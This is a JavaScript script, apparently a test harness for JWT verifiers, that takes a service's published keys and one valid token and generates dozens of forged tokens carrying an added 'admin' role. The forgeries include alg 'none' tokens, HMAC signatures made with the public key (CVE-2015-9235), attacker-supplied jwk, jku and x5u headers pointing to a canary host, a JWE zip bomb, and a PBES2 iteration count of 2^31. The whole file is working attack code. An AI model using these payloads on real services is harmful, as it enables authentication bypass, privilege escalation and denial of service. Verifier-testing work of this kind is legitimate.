// Tokens that an attacker makes with an ordinary JOSE library, from what anybody can see: the published keys and one token.
// Reads { jwks, good, canary } from standard input, writes [{ name, token }] to standard output.
import { createHash } from 'node:crypto';
import { text } from 'node:stream/consumers';
import {
  base64url,
  CompactEncrypt,
  CompactSign,
  decodeJwt,
  decodeProtectedHeader,
  exportJWK,
  exportSPKI,
  FlattenedSign,
  GeneralSign,
  generateKeyPair,
  importJWK,
  SignJWT,
  UnsecuredJWT,
} from 'jose';

const { jwks, good, canary } = JSON.parse(await text(process.stdin));
const header = decodeProtectedHeader(good);
const claims = { ...decodeJwt(good), roles: ['admin'] };
const published = jwks.keys.find((key) => key.kid === header.kid);
const bytes = (value) => new TextEncoder().encode(value);
const payload = bytes(JSON.stringify(claims));
const encoded = (value) => base64url.encode(JSON.stringify(value));
const tokens = [];
const add = (name, token) => tokens.push({ name, token });
const sign = (protectedHeader, key) => new SignJWT(claims).setProtectedHeader({ typ: 'at+jwt', kid: header.kid, ...protectedHeader }).sign(key);

add('unsecured JWT', new UnsecuredJWT(claims).encode());
for (const alg of ['none', 'None', 'nOnE', 'NONE', '']) {
  add(`alg "${alg}" without signature`, `${encoded({ ...header, alg })}.${encoded(claims)}.`);
  add(`alg "${alg}" with the old signature`, `${encoded({ ...header, alg })}.${encoded(claims)}.${good.split('.')[2]}`);
}

// CVE-2015-9235: the public key, in each form it is seen in, as the secret of an HMAC.
const key = await importJWK(published, published.alg, { extractable: true });
const pem = await exportSPKI(key);
const der = Buffer.from(pem.replace(/-----[^-]+-----|\s/g, ''), 'base64');
const { use, alg: _, kid, ...bare } = published;
const secrets = {
  PEM: bytes(pem),
  'PEM without its last line break': bytes(pem.trimEnd()),
  'PEM with line breaks of Windows': bytes(pem.replaceAll('\n', '\r\n')),
  DER: der,
  JWK: bytes(JSON.stringify(published)),
  'JWK without names': bytes(JSON.stringify(bare)),
  'JWK set': bytes(JSON.stringify(jwks)),
  kid: bytes(kid),
  thumbprint: createHash('sha256').update(kid).digest(),
  'first number as text': bytes(published.x ?? published.n),
  'first number as bytes': base64url.decode(published.x ?? published.n),
  'second number as text': bytes(published.y ?? published.e),
  'an empty secret': new Uint8Array(1),
};
for (const [form, secret] of Object.entries(secrets)) {
  // Shorter than the library allows for HS256 is padded with zeros, as HMAC itself does (RFC 2104 §2).
  const padded = secret.length < 32 ? Buffer.concat([secret, Buffer.alloc(32 - secret.length)]) : secret;
  add(`HS256 with the public key: ${form}`, await sign({ alg: 'HS256' }, padded));
}
add('HS512 with the public key', await sign({ alg: 'HS512' }, bytes(pem)));

// Another algorithm, an attacker's key, our kid: the confusion of families.
const attackers = {};
for (const alg of ['ES256', 'ES384', 'ES512', 'RS256', 'RS384', 'RS512', 'PS256', 'PS512', 'EdDSA']) {
  attackers[alg] = await generateKeyPair(alg, { extractable: true });
  add(`${alg} by another key`, await sign({ alg }, attackers[alg].privateKey));
}
const mine = attackers[published.alg];
const jwk = { ...(await exportJWK(mine.publicKey)), alg: published.alg, kid: header.kid, use: 'sig' };

// CVE-2018-0114, CVE-2024-21643: the key comes along, or says where it is.
add('jwk brings the key', await sign({ alg: published.alg, jwk }, mine.privateKey));
add('jwk brings the key, without kid', await sign({ alg: published.alg, kid: undefined, jwk }, mine.privateKey));
add('jku names the keys', await sign({ alg: published.alg, jku: `${canary}/jwks.json` }, mine.privateKey));
add('jku names the keys, kid as well', await sign({ alg: published.alg, kid: `${canary}/jwks.json`, jku: `${canary}/jwks.json` }, mine.privateKey));
add('x5u names the certificate', await sign({ alg: published.alg, x5u: `${canary}/c.pem` }, mine.privateKey));
add('x5c brings the certificate', await sign({ alg: published.alg, x5c: [der.toString('base64')] }, mine.privateKey));
add('iss names the attacker', await new SignJWT({ ...claims, iss: canary }).setProtectedHeader({ ...header }).sign(mine.privateKey));

// Extensions.
add('b64 false', await new CompactSign(bytes('{}')).setProtectedHeader({ ...header, b64: true, crit: ['b64'] }).sign(mine.privateKey));
add('crit of an unknown extension', await new CompactSign(payload).setProtectedHeader({ ...header, crit: ['x'], x: 1 }).sign(mine.privateKey, { crit: { x: true } }));

// JWE where a JWS belongs.
const secret = new Uint8Array(32);
const encrypt = (protectedHeader, to, content = payload) =>
  new CompactEncrypt(content).setProtectedHeader({ typ: 'at+jwt', kid: header.kid, ...protectedHeader }).encrypt(to);
add('JWE, direct', await encrypt({ alg: 'dir', enc: 'A256GCM' }, secret));
add('JWE, nested token', await encrypt({ alg: 'dir', enc: 'A256GCM', cty: 'JWT' }, secret, bytes(good)));
add('JWE, zip bomb', await encrypt({ alg: 'dir', enc: 'A256GCM', zip: 'DEF' }, secret, Buffer.alloc(4 << 20)));
const slow = await encrypt({ alg: 'PBES2-HS256+A128KW', enc: 'A128GCM' }, bytes('a password'));
const [slowHeader, ...slowRest] = slow.split('.');
const endless = { ...JSON.parse(new TextDecoder().decode(base64url.decode(slowHeader))), p2c: 2 ** 31 };
add('JWE, p2c of 2^31', [encoded(endless), ...slowRest].join('.'));
add('JWS with the header of that JWE', `${encoded(endless)}.${good.split('.').slice(1).join('.')}`);
add('JWE for the published key', published.kty === 'EC'
  ? await encrypt({ alg: 'ECDH-ES', enc: 'A256GCM' }, await importJWK({ ...bare }, 'ECDH-ES'))
  : await encrypt({ alg: 'RSA-OAEP-256', enc: 'A256GCM' }, await importJWK({ ...bare }, 'RSA-OAEP-256')));

// Other serialisations, and a token in a token.
add('JSON, flattened', JSON.stringify(await new FlattenedSign(payload).setProtectedHeader({ ...header }).sign(mine.privateKey)));
const general = new GeneralSign(payload);
general.addSignature(mine.privateKey).setProtectedHeader({ ...header });
add('JSON, general', JSON.stringify(await general.sign()));
const [h, p, s] = good.split('.');
add('JSON of the good token', JSON.stringify({ protected: h, payload: p, signature: s }));
add('nested token', await new CompactSign(bytes(good)).setProtectedHeader({ ...header, cty: 'JWT' }).sign(mine.privateKey));

process.stdout.write(JSON.stringify(tokens));
